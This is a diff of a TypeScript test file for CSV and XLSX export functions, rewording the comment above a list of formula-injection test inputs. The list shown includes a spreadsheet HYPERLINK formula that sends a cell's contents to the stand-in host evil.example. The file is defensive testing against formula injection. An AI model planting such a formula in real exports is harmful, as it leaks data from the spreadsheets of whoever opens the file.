@@ -4,7 +4,7 @@ import { describe, expect, it } from 'vitest';
 import { toCsv } from './csv.ts';
 import { toXlsx } from './xlsx.ts';
 
-/** What customers could write into a field so that it runs on the computer of whoever opens the export. */
+/** Cell texts of customers that would run as formulas on the computer of the person who opens the export. */
 const attacks = [
   '=1+1',
   '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
